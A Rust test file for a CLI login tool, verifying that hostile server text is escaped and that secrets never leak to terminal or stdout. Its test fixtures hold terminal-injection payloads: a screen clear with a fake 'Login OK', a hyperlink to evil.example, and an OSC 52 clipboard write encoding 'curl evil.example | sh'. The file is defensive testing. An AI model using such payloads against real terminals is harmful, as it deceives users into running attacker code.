//! What reaches the terminal and stdout: escaped server text (rows 13, 14), no secrets
//! at the most verbose level (row 17), machine output, colours, Ctrl-C.

use serde_json::{Value, json};

use crate::canary::{self, Allow};
use crate::harness::*;
use crate::server::{AUTHENTICATE, Response};

// --- Row 14 and friends: escape sequences in server text ---------------------------

#[tokio::test]
async fn row14_screen_clear_and_fake_success_in_error_description_are_escaped_and_truncated() {
    let description = format!("\u{1b}[2J\u{1b}[HLogin OK \u{2713}{}", "x".repeat(5000));
    let server = scripted(
        json!({}),
        vec![oauth_error(400, "invalid_request", &description)],
    )
    .await;
    let out = Cli::new().login(&server, &[]).await;
    out.assert_code(1);
    let line = out.error_line();
    assert!(line.contains(r"\u{1b}[2J\u{1b}[HLogin OK"), "{line}");
    assert!(line.contains('\u{2026}'), "not truncated: {line}");
    assert!(!line.contains(&"x".repeat(1000)), "not truncated");
}

#[tokio::test]
async fn osc_8_hyperlinks_and_osc_52_clipboard_writes_are_shown_escaped() {
    let hyperlink = "\u{1b}]8;;https://evil.example/\u{1b}\\click me\u{1b}]8;;\u{1b}\\";
    let clipboard = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}";
    let server = scripted(
        json!({}),
        vec![oauth_error(
            400,
            "access_denied",
            &format!("{hyperlink} {clipboard}"),
        )],
    )
    .await;
    let out = Cli::new().login(&server, &[]).await;
    out.assert_code(2)
        .assert_stderr_has(r"\u{1b}]8;;https://evil.example/\u{1b}\click me")
        .assert_stderr_has(r"\u{1b}]52;c;");
}

#[tokio::test]
async fn c1_bidi_and_zero_width_characters_in_server_text_are_escaped() {
    let description = "csi\u{9b}31m rtl\u{202e}txet zw\u{200b}j bom\u{feff} ls\u{2028} del\u{7f}";
    let server = scripted(
        json!({}),
        vec![oauth_error(400, "weird\u{202e}code", description)],
    )
    .await;
    let out = Cli::new().login(&server, &[]).await;
    out.assert_code(1);
    for escaped in [
        r"\u{9b}",
        r"\u{202e}",
        r"\u{200b}",
        r"\u{feff}",
        r"\u{2028}",
        r"\u{7f}",
    ] {
        out.assert_stderr_has(escaped);
    }
}

#[tokio::test]
async fn hostile_user_fields_are_escaped_in_the_closing_line() {
    let mut body = tokens();
    body["user"]["email"] = json!("victim@example.com\u{1b}[2K\u{1b}[1G\u{202e}");
    body["organization_id"] = json!("org\u{1b}]52;c;ZXZpbA==\u{7}");
    let server = scripted(json!({}), vec![]).await;
    server.then_always(AUTHENTICATE, Response::json(200, body));
    let out = Cli::new().login(&server, &[]).await;
    out.assert_code(0)
        .assert_stderr_has(r"victim@example.com\u{1b}[2K")
        .assert_stderr_has(r"org\u{1b}]52;c;");
}

// --- Row 17 and machine output ------------------------------------------------------

#[tokio::test]
async fn row17_the_most_verbose_successful_login_prints_no_secret() {
    // The harness already runs with -vvv and RUST_LOG=trace and checks every stream;
    // this is the longest path: pending, slow_down, a 500, then tokens.
    let server = scripted(
        json!({}),
        vec![
            pending(),
            Response::json(500, json!({"error": canary::DEVICE_CODE})).into(),
        ],
    )
    .await;
    server.then_always(AUTHENTICATE, ok_tokens());
    let out = Cli::new().login(&server, &[]).await;
    out.assert_code(0);
    assert!(
        out.stderr.lines().count() > 20,
        "was the trace level really on?"
    );
}

#[tokio::test]
async fn json_output_is_one_valid_document_without_tokens() {
    let server = scripted(json!({}), vec![]).await;
    server.then_always(AUTHENTICATE, ok_tokens());
    let out = Cli::new().login(&server, &["--json"]).await;
    out.assert_code(0);
    let doc: Value = serde_json::from_str(out.stdout.trim()).expect("stdout is JSON");
    assert_eq!(doc["status"], "logged_in");
    assert_eq!(doc["user"]["email"], "hostile@example.com");
    assert!(doc.get("access_token").is_none() && doc.get("refresh_token").is_none());
    assert_eq!(out.stdout.trim().lines().count(), 1);
    // The code still goes to stderr, where the user sees it.
    out.assert_stderr_has(USER_CODE);
}

#[tokio::test]
async fn json_show_tokens_prints_them_on_stdout_only() {
    let server = scripted(json!({}), vec![]).await;
    server.then_always(AUTHENTICATE, ok_tokens());
    let cli = Cli::new().allow(Allow::TokensOnStdout);
    let out = cli.login(&server, &["--json", "--show-tokens"]).await;
    out.assert_code(0);
    let doc: Value = serde_json::from_str(out.stdout.trim()).expect("stdout is JSON");
    assert!(
        doc["access_token"]
            .as_str()
            .is_some_and(|t| t.ends_with(canary::ACCESS_SIGNATURE))
    );
    assert_eq!(doc["refresh_token"], canary::REFRESH_TOKEN);
}

#[tokio::test]
async fn json_output_keeps_hostile_user_strings_terminal_safe() {
    let email = "a\u{202e}moc.live@b \u{9b}31m \u{1b}[2J";
    let mut body = tokens();
    body["user"]["email"] = json!(email);
    body["user"]["first_name"] = json!("\u{200b}Zero\u{feff}");
    let server = scripted(json!({}), vec![]).await;
    server.then_always(AUTHENTICATE, Response::json(200, body));
    // The harness fails the run if stdout carries a raw bidi, C1 or zero-width char.
    let out = Cli::new().login(&server, &["--json"]).await;
    out.assert_code(0);
    let doc: Value = serde_json::from_str(out.stdout.trim()).expect("stdout is JSON");
    assert_eq!(
        doc["user"]["email"], email,
        "the value survives, escaped as JSON"
    );
    assert_eq!(doc["user"]["first_name"], "\u{200b}Zero\u{feff}");
}

#[tokio::test]
async fn quiet_mode_still_shows_the_code_and_nothing_else() {
    let server = scripted(json!({}), vec![]).await;
    server.then_always(AUTHENTICATE, ok_tokens());
    let out = Cli::new().not_verbose().login(&server, &["--quiet"]).await;
    out.assert_code(0)
        .assert_stderr_has(USER_CODE)
        .assert_stderr_lacks("Not opening a browser");
}

// --- Colours and terminals -------------------------------------------------------------

#[tokio::test]
async fn non_tty_output_has_no_escape_sequence_even_with_colourful_logs() {
    // Without NO_COLOR; a piped stderr must still carry nothing a server could have
    // smuggled in. Our own log formatter's colour codes (SGR `ESC [ … m`) are the only
    // escapes tolerated here.
    let server = scripted(
        json!({}),
        vec![oauth_error(
            400,
            "access_denied",
            "\u{1b}[2J\u{1b}]52;c;eA==\u{7}",
        )],
    )
    .await;
    let cli = Cli::new().without_env("NO_COLOR");
    let url = server.url();
    let mut cmd = cli.command(&[
        "login",
        "--client-id",
        CLIENT_ID,
        "--api-base-url",
        &url,
        "--no-browser",
    ]);
    let output = cmd.output().await.unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    let without_sgr = strip_sgr(&stderr);
    assert_terminal_safe("stderr without SGR", &without_sgr);
    assert!(without_sgr.contains(r"\u{1b}[2J"));
    canary::assert_no_secrets(
        &String::from_utf8_lossy(&output.stdout),
        &stderr,
        Allow::Nothing,
    );
}

fn strip_sgr(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(i) = rest.find("\u{1b}[") {
        out.push_str(&rest[..i]);
        let tail = &rest[i + 2..];
        let end = tail
            .find(|c: char| !(c.is_ascii_digit() || c == ';'))
            .unwrap_or(tail.len());
        if tail[end..].starts_with('m') {
            rest = &tail[end + 1..];
        } else {
            out.push_str("\u{1b}[");
            rest = tail;
        }
    }
    out.push_str(rest);
    out
}

/// Runs the binary on a pseudo-terminal (util-linux `script`) and returns everything
/// the terminal received.
async fn on_a_tty(cli: &Cli, args: &[&str]) -> (Option<i32>, String) {
    let quoted: Vec<String> = std::iter::once(BIN)
        .chain(args.iter().copied())
        .map(|a| format!("'{}'", a.replace('\'', r"'\''")))
        .collect();
    let mut cmd = cli.command(&[]);
    let std_cmd = cmd.as_std_mut();
    let envs: Vec<(std::ffi::OsString, Option<std::ffi::OsString>)> = std_cmd
        .get_envs()
        .map(|(k, v)| (k.to_owned(), v.map(|v| v.to_owned())))
        .collect();
    let mut script = tokio::process::Command::new("script");
    script.args(["-qec", &quoted.join(" "), "/dev/null"]);
    for (k, v) in envs {
        match v {
            Some(v) => script.env(k, v),
            None => script.env_remove(k),
        };
    }
    script.stdin(std::process::Stdio::null()).kill_on_drop(true);
    let output = tokio::time::timeout(std::time::Duration::from_secs(60), script.output())
        .await
        .expect("hung on a tty")
        .expect("run script(1)");
    (
        output.status.code(),
        String::from_utf8_lossy(&output.stdout).into_owned(),
    )
}

#[tokio::test]
async fn on_a_tty_the_code_is_bold_unless_no_color_and_server_escapes_stay_escaped() {
    let hostile = "\u{1b}[2J\u{1b}]52;c;eA==\u{7}";
    let run = |no_color: bool| async move {
        let server = scripted(json!({}), vec![oauth_error(400, "access_denied", hostile)]).await;
        let cli = Cli::new().not_verbose();
        let cli = if no_color {
            cli
        } else {
            cli.without_env("NO_COLOR")
        };
        let url = server.url();
        on_a_tty(
            &cli,
            &[
                "login",
                "--client-id",
                CLIENT_ID,
                "--api-base-url",
                &url,
                "--no-browser",
            ],
        )
        .await
    };
    let (code, colourful) = run(false).await;
    assert_eq!(code, Some(2), "{colourful}");
    assert!(
        colourful.contains(&format!("\u{1b}[1m{USER_CODE}")),
        "{colourful:?}"
    );
    let (code, plain) = run(true).await;
    assert_eq!(code, Some(2), "{plain}");
    assert!(plain.contains(USER_CODE));
    assert!(!plain.contains("\u{1b}[1m"), "NO_COLOR ignored: {plain:?}");
    for screen in [&colourful, &plain] {
        assert!(!screen.contains("\u{1b}[2J"), "{screen:?}");
        assert!(!screen.contains("\u{1b}]52"), "{screen:?}");
        assert!(screen.contains(r"\u{1b}[2J"));
        canary::assert_no_secrets("", screen, Allow::Nothing);
    }
}

// --- Ctrl-C ------------------------------------------------------------------------------

#[tokio::test]
async fn ctrl_c_while_polling_exits_130_and_persists_nothing() {
    let server = scripted(json!({}), vec![]).await;
    let cli = Cli::new();
    let url = server.url();
    let child = cli
        .command(&[
            "login",
            "--client-id",
            CLIENT_ID,
            "--api-base-url",
            &url,
            "--no-browser",
        ])
        .spawn()
        .unwrap();
    server.wait_for(AUTHENTICATE, 1).await;
    let pid = child.id().expect("running").to_string();
    let killed = std::process::Command::new("kill")
        .args(["-INT", &pid])
        .status()
        .unwrap();
    assert!(killed.success());
    let out = cli.finish(child).await;
    out.assert_code(130).assert_stderr_has("cancelled");
    assert!(
        cli.stored_profiles().is_empty(),
        "{:?}",
        cli.stored_profiles()
    );
}
